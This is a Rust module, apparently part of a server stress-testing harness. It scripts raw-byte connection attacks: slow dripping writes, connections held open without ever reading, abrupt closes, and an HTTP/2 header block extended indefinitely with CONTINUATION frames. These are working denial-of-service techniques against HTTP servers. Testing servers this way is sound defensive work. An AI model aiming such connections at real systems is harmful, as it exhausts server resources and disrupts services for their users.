//! Attacks with raw bytes: HTTP/1.1, and HTTP/2 frames that no library would send.

use std::{io, net::SocketAddr, time::Duration};

use bytes::{BufMut as _, Bytes, BytesMut};
use tokio::{
    io::{AsyncReadExt as _, AsyncWriteExt as _},
    net::{TcpStream, tcp::OwnedReadHalf},
};

use super::{Crowd, Member, Peer};

/// Pause between two drips.
const DRIP: Duration = Duration::from_millis(700);

/// A script of what is sent on a connection.
#[derive(Clone)]
pub struct Script {
    /// Sent at once.
    pub opening: Bytes,
    /// Also sent at once; shared by the whole crowd.
    pub body: Bytes,
    /// Then sent repeatedly.
    pub drip: Bytes,
    /// Whether responses are read.
    pub reads: bool,
    /// Whether the connection is closed at once.
    pub hasty: bool,
}

impl Script {
    /// Sends these bytes only.
    #[must_use]
    pub fn once(opening: impl Into<Bytes>) -> Self {
        Self { opening: opening.into(), body: Bytes::new(), drip: Bytes::new(), reads: true, hasty: false }
    }

    /// Sends these bytes, and then a few more repeatedly.
    #[must_use]
    pub fn dripping(opening: impl Into<Bytes>, drip: impl Into<Bytes>) -> Self {
        Self { opening: opening.into(), body: Bytes::new(), drip: drip.into(), reads: true, hasty: false }
    }

    /// Sends these bytes and reads nothing.
    #[must_use]
    pub fn deaf(opening: impl Into<Bytes>) -> Self {
        Self { opening: opening.into(), body: Bytes::new(), drip: Bytes::new(), reads: false, hasty: false }
    }

    /// Sends these bytes and closes the connection.
    #[must_use]
    pub fn hasty(opening: impl Into<Bytes>) -> Self {
        Self { hasty: true, ..Self::once(opening) }
    }

    /// Sends these bytes as well.
    #[must_use]
    pub fn then(self, body: Bytes) -> Self {
        Self { body, ..self }
    }

    /// Joins a crowd.
    pub fn join(self, crowd: &mut Crowd, peer: Peer) {
        crowd.add(peer, move |member| play(self.clone(), member));
    }
}

async fn play(script: Script, member: Member) -> io::Result<()> {
    let mut stream = member.connect().await?;
    stream.write_all(&script.opening).await?;
    stream.write_all(&script.body).await?;
    member.is_in_place();
    if script.hasty {
        return Ok(());
    }
    if !script.reads {
        return deaf(stream).await;
    }
    let (reads, mut writes) = stream.into_split();
    let drips = async {
        loop {
            tokio::time::sleep(DRIP).await;
            writes.write_all(&script.drip).await?;
        }
    };
    tokio::select! {
        ended = swallow(reads) => ended,
        ended = drips, if !script.drip.is_empty() => ended,
    }
}

/// Holds a connection without ever reading a byte.
async fn deaf(stream: TcpStream) -> io::Result<()> {
    stream.ready(tokio::io::Interest::ERROR).await.map(drop)
}

async fn swallow(mut reads: OwnedReadHalf) -> io::Result<()> {
    let mut taken = [0; 4096];
    while reads.read(&mut taken).await? > 0 {}
    Ok(())
}

/// Returns a request's head and what follows it.
#[must_use]
pub fn request(server: SocketAddr, method: &str, target: &str, fields: &str, body: &[u8]) -> Bytes {
    let target = target.strip_prefix(&format!("http://{server}")).unwrap_or(target);
    let mut bytes =
        BytesMut::from(format!("{method} {target} HTTP/1.1\r\nhost: {server}\r\n{fields}\r\n").as_bytes());
    bytes.put_slice(body);
    bytes.freeze()
}

/// Returns the beginning of an HTTP/2 connection whose first head never ends, and a frame that
/// continues it.
#[must_use]
pub fn endless_http2_head() -> (Bytes, Bytes) {
    const SETTINGS: u8 = 4;
    const HEADERS: u8 = 1;
    const CONTINUATION: u8 = 9;
    /// `:method: GET` of the static table.
    const METHOD_GET: &[u8] = &[0x82];
    /// `x: y`, as a literal without indexing.
    const FIELD: &[u8] = &[0x00, 1, b'x', 1, b'y'];
    let mut opening = BytesMut::from(&b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"[..]);
    opening.put_slice(&frame(SETTINGS, 0, &[]));
    opening.put_slice(&frame(HEADERS, 1, METHOD_GET));
    (opening.freeze(), frame(CONTINUATION, 1, FIELD))
}

/// Returns a frame without flags (RFC 9113, 4.1).
fn frame(kind: u8, stream: u32, payload: &[u8]) -> Bytes {
    let mut bytes = BytesMut::new();
    bytes.put_uint(payload.len() as u64, 3);
    bytes.put_u8(kind);
    bytes.put_u8(0);
    bytes.put_u32(stream);
    bytes.put_slice(payload);
    bytes.freeze()
}
